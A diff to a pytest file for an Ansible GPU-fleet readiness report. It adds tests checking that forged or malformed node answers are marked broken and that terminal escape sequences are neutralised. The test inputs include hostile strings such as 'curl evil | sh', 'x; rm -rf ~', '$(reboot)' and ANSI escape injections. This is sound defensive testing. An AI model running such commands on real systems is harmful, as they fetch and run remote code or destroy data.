@@ -8,6 +8,7 @@ from datetime import UTC, datetime
 
 import pytest
 
+from ansible_collections.gpufleet.kimi_k3.plugins.module_utils.readiness.probe import check_ids
 from ansible_collections.gpufleet.kimi_k3.plugins.plugin_utils import readiness_report
 
 WHEN = datetime(2026, 11, 30, 21, 0, 0, tzinfo=UTC)
@@ -36,14 +37,11 @@ def check(check_id, status, blocking=True, remedy=None):
 
 
 def probed(verdict="ready", cause=None, checks=()):
+    """What the probe of a node answers: every check passes but those given."""
+    given = {item["id"]: item for item in checks}
+    answers = [given.get(check_id, check(check_id, "pass")) for check_id in check_ids()]
     return {
-        "readiness": {
-            "schema": "1.0",
-            "verdict": verdict,
-            "root_cause": cause,
-            "checks": [check("host.arch", "pass"), *checks],
-            "facts": {},
-        }
+        "readiness": {"schema": "1.0", "verdict": verdict, "root_cause": cause, "checks": answers, "facts": {}},
     }
 
 
@@ -141,7 +139,7 @@ def test_the_table_names_verdict_cause_failures_and_cure():
 
 
 def test_a_command_to_copy_is_never_wrapped():
-    command = "sudo " + "x" * 300
+    command = "systemctl restart " + "x" * 300
     result = probed("not_ready", "gpu.ecc", [check("gpu.ecc", "fail", remedy={**REMEDY, "command": command})])
     assert any(line.endswith(command) for line in readiness_report.table(report_of({"a": result})).splitlines())
 
@@ -169,7 +167,65 @@ def test_a_folder_in_the_place_of_latest_is_not_removed(tmp_path):
 
 
 def test_a_degraded_node_says_what_degrades_it():
-    warnings = [check(f"host.c{number}", "warn", remedy=REMEDY) for number in range(5)]
+    warnings = [check(check_id, "warn", remedy=REMEDY) for check_id in check_ids()[:5]]
     lines = readiness_report.table(report_of({"a": probed("degraded", None, warnings)})).splitlines()
-    assert [line.split()[1:3] for line in lines[3:6]] == [[f"host.c{number}", "(warn):"] for number in range(3)]
+    assert [line.split()[1:3] for line in lines[3:6]] == [[check_id, "(warn):"] for check_id in check_ids()[:3]]
     assert lines[6].split() == ["why", "and", "2", "more"]
+
+
+def evil(**changes):
+    """A node's answer with its first check changed."""
+    answer = probed("not_ready", "host.managed_by", [check("host.managed_by", "fail", remedy=REMEDY)])
+    answer["readiness"]["checks"][0].update(changes)
+    return answer
+
+
+def forged(**changes):
+    """A node's answer that says of itself what its checks do not."""
+    answer = probed("not_ready", "gpu.ecc", [check("gpu.ecc", "fail", remedy=REMEDY)])
+    answer["readiness"].update(changes)
+    return answer
+
+
+@pytest.mark.parametrize(
+    "result",
+    [
+        forged(verdict="ready"),
+        forged(root_cause="\x1b]0;PWN\x07"),
+        forged(root_cause=None),
+        forged(checks=[]),
+        forged(checks={}),
+        forged(checks=[None]),
+        forged(facts=None),
+        {"readiness": {"verdict": "ready"}},
+        {"readiness": ["ready"]},
+        evil(id="host.managed_by\x1b[31m"),
+        evil(status="fine"),
+        evil(status=["pass"]),
+        evil(reason=None),
+        evil(blocking="no"),
+        evil(evidence="none"),
+        evil(evidence=[{"source": 1, "line": ""}]),
+        evil(remedy={}),
+        evil(remedy={**REMEDY, "disruptive": "none\x1b[31m"}),
+        evil(remedy={**REMEDY, "command": "curl evil | sh"}),
+        evil(remedy={**REMEDY, "playbook": "x; rm -rf ~"}),
+        evil(remedy={**REMEDY, "tag": "$(reboot)"}),
+    ],
+)
+def test_an_answer_that_is_not_the_probes_is_a_broken_row_and_spoils_no_other(result):
+    report = report_of({"evil": result, "good": probed()})
+    evil_row, good_row = report["nodes"]
+    assert (evil_row["state"], evil_row["verdict"]) == ("broken", "not_ready")
+    assert "form of a report" in evil_row["reason"]
+    assert good_row["verdict"] == "ready"
+    assert readiness_report.table(report).replace("\n", "").isprintable()
+
+
+def test_texts_of_a_node_are_harmless_in_the_table_also_where_its_answer_is_sound():
+    remedy = {**REMEDY, "action": "Do \x1b[2J this."}
+    answer = probed("not_ready", "gpu.ecc", [{**check("gpu.ecc", "fail", remedy=remedy), "reason": "\x1b[31mred"}])
+    report = report_of({"a": answer})
+    assert report["nodes"][0]["state"] == "probed"
+    assert "\\u001b" not in json.dumps(report)
+    assert readiness_report.table(report).replace("\n", "").isprintable()
